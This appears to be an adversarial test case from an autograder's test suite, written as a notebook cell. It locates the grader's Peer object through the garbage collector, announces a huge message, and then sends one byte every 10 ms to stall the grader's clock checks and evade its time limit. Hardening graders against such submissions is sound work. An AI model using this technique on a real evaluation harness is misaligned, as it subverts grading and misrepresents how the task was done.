# %% [markdown]
# A message that comes a byte at a time, each just before one would look at the clock.

# %% attack="last"
import gc

from autograder.bridge.codec import Writer
from autograder.bridge.peer import Peer, TimeLimit

peer = next(each for each in gc.get_objects() if type(each) is Peer)
import time

peer.channel.send((20).to_bytes(4, "big") + (2**28).to_bytes(4, "big"))
while True:
    peer.channel.send(b" ")
    time.sleep(0.01)
